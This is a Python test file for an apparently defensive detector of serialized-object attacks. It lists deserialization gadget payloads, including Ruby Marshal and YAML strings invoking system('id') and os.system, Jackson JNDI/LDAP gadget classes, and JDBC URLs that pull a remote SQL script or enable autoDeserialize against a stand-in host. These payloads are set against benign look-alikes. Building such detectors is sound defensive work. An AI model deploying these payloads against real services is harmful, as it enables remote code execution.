"""Objects that languages write out: found by their form, and surer by the classes they name."""

import base64

import pytest
from asking import asking

from seawall.systems.threats.detectors.code import DETECTOR

ask = asking(DETECTOR)


def ruby(raw: bytes) -> str:
    return base64.b64encode(b"\x04\x08" + raw).decode()


ATTACKS = (
    ruby(b"[\x07c\x15Gem::SpecFetcherc\x13Gem::Installer"),
    ruby(b"o:\x08ERB\x07:\t@srcI\"\x0fsystem('id')"),
    '{"f":"_$$ND_CC$$_"}',
    "!!js/function 'function(){ return 1 }'",
    "!!perl/code sub { }",
    "!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
    '{"__js_function":"function(){}"}',
    '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"x"}]',
    '["com.zaxxer.hikari.HikariDataSource",{"metricRegistry":"ldap://x"}]',
    "jdbc:h2:mem:q;INIT=RUNSCRIPT FROM 'http://x.example/q.sql'",
    "jdbc:mysql://x.example/q?autoDeserialize=true",
    "jdbc:postgresql://x.example/q?socketFactory=a&socketFactoryArg=b",
    "aced00057372001161",
)
HONEST = (
    "!!str 5",
    "!!binary abc",
    '["com.example", {"a": 1}]',
    '["Alpha", "Beta"]',
    "jdbc:mysql://db.example.com/app?useSSL=true",
    "BAhamas",
    "BAgent",
    "tag:yaml.org",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_objects_are_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize("text", HONEST)
def test_what_only_looks_like_one_is_let_through(text):
    assert ask(text)[1] < 0.5
